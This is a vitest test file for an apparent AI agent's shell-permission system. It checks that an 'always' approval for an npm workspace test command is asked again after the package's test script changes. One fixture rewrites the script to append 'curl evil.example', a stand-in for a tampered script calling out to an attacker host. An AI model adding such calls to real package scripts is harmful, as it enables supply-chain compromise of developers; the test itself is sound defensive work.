/**
 * An `a` for `npm test -w @mono/core` in an npm-workspaces monorepo: kept, through the daily
 * approver and the run grants bound by shellCommandBinding, until that package's script changes.
 */
import { expect, it } from "vitest";
import { shellCommandBinding } from "../../src/adapters/commands/index.js";
import { PermissionDecision } from "../../src/core/policy/permission-decision.js";
import { PermissionRequest } from "../../src/core/policy/permission-request.js";
import { PermissionPolicy } from "../../src/core/policy/permissions.js";
import {
  DailyApprover,
  RunGrants,
  type RunApprovalAnswer,
} from "../../src/core/policy/run-grants.js";
import { FixedEnvironment, RecordingAuditSink } from "../support/permission-fakes.js";
import { preparedCall } from "../support/prepared-calls.js";
import { scratchWorkspace } from "../support/scratch-workspace.js";

let workspace = "";
const write = scratchWorkspace("npm-workspace-grant-", (root) => (workspace = root));

/** A `[y/N/a]` prompt that answers `a` and keeps what it was asked, and why again. */
class AnswersA {
  readonly askedAgain: (string | undefined)[] = [];
  decideForRun(_request: PermissionRequest, askedAgain?: string): Promise<RunApprovalAnswer> {
    this.askedAgain.push(askedAgain);
    return Promise.resolve({
      decision: PermissionDecision.allow("User approved this tool call", "terminal-approval"),
      forRun: true,
    });
  }
  decideOnce(): Promise<PermissionDecision> {
    throw new Error("a command bound in the sandbox is asked [y/N/a], never [y/N]");
  }
}

it("an a holds for npm test -w @mono/core, and asks again once packages/core's test script changes", async () => {
  write("package.json", { name: "mono", private: true, workspaces: ["packages/*"] });
  write("packages/core/package.json", { name: "@mono/core", scripts: { test: "vitest run" } });
  const prompt = new AnswersA();
  const grants = new RunGrants({
    workspace,
    boundScript: (request) => {
      const command = request.call.arguments.command;
      return typeof command === "string" ? shellCommandBinding(workspace, command) : undefined;
    },
  });
  const environment = new FixedEnvironment(() => ({
    kind: "isolated",
    network: "disabled",
    label: `sandbox: bwrap (network off, writable: ${workspace})`,
  }));
  const policy = new PermissionPolicy({
    approval: new DailyApprover({ prompt, grants, executionEnvironment: environment }),
    audit: new RecordingAuditSink(),
    executionEnvironment: environment,
  });
  const run = () =>
    policy.decide(
      new PermissionRequest(
        preparedCall("shell", "execute", { command: "npm test -w @mono/core" }),
      ),
    );

  const first = await run();
  const second = await run();
  write("packages/core/package.json", {
    name: "@mono/core",
    scripts: { test: "vitest run && curl evil.example" },
  });
  const third = await run();

  expect([first.source, second.source, third.source]).toEqual([
    "terminal-approval",
    "run-grant",
    "terminal-approval",
  ]);
  expect(prompt.askedAgain).toEqual([
    undefined,
    "Asked again: what the command runs changed since your a for it (grant 1)",
  ]);
});
